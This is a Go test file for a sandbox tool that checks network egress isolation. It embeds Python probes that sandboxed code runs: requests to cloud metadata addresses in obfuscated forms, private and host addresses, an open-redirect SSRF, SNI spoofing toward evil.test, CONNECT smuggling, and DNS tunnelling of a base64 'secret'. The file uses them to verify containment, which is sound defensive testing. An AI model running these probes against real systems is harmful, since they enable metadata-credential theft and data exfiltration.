package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/fumehood-dev/fumehood/api"
	"github.com/fumehood-dev/fumehood/client"
	"github.com/fumehood-dev/fumehood/internal/answer"
	"github.com/fumehood-dev/fumehood/internal/egress/egresstest"
	"github.com/fumehood-dev/fumehood/sandbox"
	"github.com/fumehood-dev/fumehood/test/backendtest"
)

// insideAttacks are attacks by code in a sandbox. internal/egress makes more, as root in the sandbox's network.
const insideAttacks = `
import socket, ssl, urllib.request
def tcp(host, port, data=b"canary"):
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET); s.settimeout(5)
    try: s.connect((host, port)); s.sendall(data); s.recv(100)
    except OSError as e: pass
    s.close()
def udp(host, port):
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM)
    try: s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.sendto(b"canary", (host, port))
    except OSError: pass
for host in ["169.254.169.254", "100.100.100.200", "10.0.0.1", "172.17.0.1", "192.168.1.1", "5.5.5.2", "198.18.0.1", "::ffff:169.254.169.254", "fd00:ec2::254", "2a00:5::2", "64:ff9b::a9fe:a9fe"]:
    for port in 22, 80, HOSTPORT: tcp(host, port); udp(host, port)
for host in "255.255.255.255", "224.0.0.251", "ff02::1", "fe80::1", "198.18.255.255": udp(host, 5353)
def get(url):
    try: return urllib.request.urlopen(url, timeout=5).read().decode()
    except (OSError, ValueError) as e: return e
for name in "metadata.test", "host.test", "0xa9fea9fe", "2852039166", "169.254.43518", "[::ffff:a9fe:a9fe]", "c2VjcmV0.tunnel.test": get("http://%s/" % name)
for family, kind, protocol in [(2, 3, 1), (2, 3, 255), (10, 3, 58), (17, 3, 3), (2, 2, 1), (16, 3, 0), (2, 2, 136), (2, 1, 132)]:
    try: socket.socket(family, kind, protocol); print("socket", family, kind, protocol)
    except OSError: pass
get("http://good.test/?to=http://169.254.169.254/")
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
try: context.wrap_socket(socket.create_connection(("good.test", 443), 5), server_hostname="evil.test")
except OSError: pass
tcp("93.184.216.34", 80, b"CONNECT evil.test:443 HTTP/1.1\r\nHost: good.test\r\n\r\n")
print(get("http://good.test/done"))
`

// TestCanariesOfRun: code in a sandbox causes only the packets that its policy allows.
func TestCanariesOfRun(t *testing.T) {
	if testing.Short() {
		t.Skip("SKIPPED, NOT TESTED: it takes 20 s; package egress has the same attacks before the gate alone")
	}
	if !egresstest.Inside(t) {
		return
	}
	isNetworkReady(t)
	w := egresstest.New(t)
	w.Web(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		if to := r.URL.Query().Get("to"); to != "" {
			http.Redirect(rw, r, to, http.StatusFound)
		}
		fmt.Fprint(rw, r.Host, r.URL.Path)
	}))
	w.Name("good.test", "93.184.216.34")
	w.Name("evil.test", "93.184.216.66")
	w.Name("metadata.test", "169.254.169.254")
	w.Name("host.test", egresstest.HostAddress)
	own, err := net.Listen("tcp", ":0") // whoever reaches it is seen on the host's loopback
	if err != nil {
		t.Fatal(err)
	}
	defer own.Close()
	code := strings.ReplaceAll(insideAttacks, "HOSTPORT", strconv.Itoa(own.Addr().(*net.TCPAddr).Port))
	for _, backend := range []string{"native", "gvisor", "docker", "podman"} {
		for _, c := range []struct {
			flags        []string
			passes, asks string
		}{
			{[]string{"--network", "full"}, "[tcp 93.184.216.34:443 tcp 93.184.216.34:80]",
				"c2vjcmv0.tunnel.test good.test host.test metadata.test"},
			{[]string{"--allow", "good.test"}, "[syn 93.184.216.34:443 tcp 93.184.216.34:80]", "good.test"},
		} {
			t.Run(backend+" "+c.flags[1], func(t *testing.T) {
				var out, errs bytes.Buffer
				m := testApp(t).Main
				m.Stdout, m.Stderr = &out, &errs
				args := append(append([]string{"run"}, onBackend(t, &m, backend)...), c.flags...)
				if code := m.Run(t.Context(), append(args, "-l", "python", "-c", code)); code != 0 ||
					out.String() != "good.test/done\n" {
					t.Errorf("exit code %d, %q, %s", code, &out, &errs)
				}
				if seen := w.Seen(); fmt.Sprint(seen) != c.passes {
					t.Errorf("%q reached the internet, and only %s should", seen, c.passes)
				}
				if seen := w.SeenByHost(); len(seen) > 0 {
					t.Errorf("%q reached the host", seen)
				}
				for _, name := range w.Asked() {
					if !slices.Contains(strings.Fields(c.asks), strings.ToLower(name)) {
						t.Errorf("the resolver was asked for %s", name)
					}
				}
			})
		}
	}
}

// busy sends an endless stream and datagrams. In a loop, it connects and sends a number. It prints each number whose
// connection failed.
const busy = `
import socket, threading
def stream():
    while True:
        try:
            s = socket.create_connection(("93.184.216.50", 25), 5)
            while True: s.sendall(bytes(65536))
        except OSError: pass
threading.Thread(target=stream, daemon=True).start()
n = 0
while True:
    n += 1
    try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"canary", ("93.184.216.50", 99))
    except OSError: pass
    try:
        s = socket.create_connection(("93.184.216.50", 26), 0.2)
        s.sendall(b"%d" % n)
        s.close()
    except OSError: print(n, flush=True)
`

// numbers are the numbers that arrived, and the goroutines that wait for one.
type numbers struct {
	mu  sync.Mutex
	all map[string]bool
}

func (n *numbers) add(b []byte) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.all[string(b)] = true
}

func (n *numbers) has(s string) bool {
	n.mu.Lock()
	defer n.mu.Unlock()
	return n.all[s]
}

func (n *numbers) forget() {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.all = map[string]bool{}
}

func (n *numbers) count() int {
	n.mu.Lock()
	defer n.mu.Unlock()
	return len(n.all)
}

// TestGateKilled: when a server is killed during a transfer, its gates end. No packet passes until the next server
// opens them again.
func TestGateKilled(t *testing.T) {
	if testing.Short() {
		t.Skip("SKIPPED, NOT TESTED: it takes 10 s; a restart of the server is in TestAgentDay")
	}
	if !egresstest.Inside(t) {
		return
	}
	isNetworkReady(t)
	w := egresstest.New(t)
	ended := make(chan int64, 16)
	w.Take(25, func(c net.Conn) {
		n, _ := io.Copy(io.Discard, c)
		ended <- n
	})
	arrived := &numbers{all: map[string]bool{}}
	w.Take(26, func(c net.Conn) {
		if b, _ := io.ReadAll(c); len(b) > 0 {
			arrived.add(b)
		}
	})
	w.Datagrams("93.184.216.50:99", func([]byte) {})
	for _, backend := range []string{"native", "gvisor", "docker", "podman"} {
		t.Run(backend, func(t *testing.T) {
			if testing.Short() && backend != "native" {
				t.Skip("the gate is the same, and the servers take seconds")
			}
			if variable := engineVariables[backend]; variable != "" {
				t.Setenv(variable, backendtest.EngineHost(t, backend))
				t.Setenv("FUMEHOOD_CONTAINER_IMAGE", backendtest.EngineImage)
			}
			arrived.forget()
			d := &dayServer{t: t, dir: shortDir(t), backend: backend}
			d.start()
			defer func() {
				_ = d.client.Remove(context.Background(), "busy")
				d.stop(os.Interrupt)
				<-ended
			}()
			network := answer.NetworkRequest(sandbox.NetworkPolicy{Mode: sandbox.NetworkRestricted,
				Allow: []string{"93.184.216.50"}, ConnectionRate: 10000})
			if _, _, err := d.client.Create(t.Context(), api.SandboxRequest{Name: "busy",
				Isolation: api.Isolation{Network: network}}); err != nil {
				t.Fatal(err)
			}
			run, err := d.client.Start(t.Context(), "busy", api.SandboxRunRequest{
				Program: api.Program{Command: []string{"/usr/bin/python3", "-c", busy}}})
			if err != nil {
				t.Fatal(err)
			}
			waitUntil(t, "traffic", func() bool { return arrived.count() > 20 && passes(w.Counts()) })
			var failed []string
			// long enough for some attempts, however busy the machine is
			for window := 500 * time.Millisecond; len(failed) < 3; window *= 2 {
				d.stop(os.Kill)
				if n := <-ended; n == 0 {
					t.Error("nothing was under way")
				}
				w.Counts()
				arrived.forget() // the last attempt may have arrived in part
				time.Sleep(window)
				if counts := w.Counts(); len(counts) > 0 {
					t.Errorf("packets passed without a server: %v", counts)
				}
				d.start()
				waitUntil(t, "traffic with the next server", func() bool {
					return arrived.count() > 20 &&
						passes(w.Counts())
				})
				failed = strings.Fields(logOf(t, d.client, "busy", string(run.ID)))
				if window > time.Minute {
					t.Fatal("the sandbox made no attempt while there was no server")
				}
			}
			for _, n := range failed {
				if arrived.has(n) {
					t.Errorf("attempt %s failed, and arrived", n)
				}
			}
		})
	}
}

// passes reports whether both the stream and datagrams pass.
func passes(counts map[string]int) bool {
	return counts["tcp 93.184.216.50:25"] > 0 && counts["udp 93.184.216.50:99"] > 0
}

// waitUntil waits until a condition is true.
func waitUntil(t *testing.T, what string, is func() bool) {
	t.Helper()
	for end := time.Now().Add(stepTimeout); !is(); time.Sleep(10 * time.Millisecond) {
		if time.Now().After(end) {
			t.Fatalf("no %s", what)
		}
	}
}

// logOf returns the output of a background run so far.
func logOf(t *testing.T, c *client.Client, name, run string) string {
	t.Helper()
	var out bytes.Buffer
	err := c.Follow(t.Context(), name, run, client.From{}, func(e client.Event) error {
		if e.Output != nil {
			out.Write(e.Output.Data)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out.String()
}
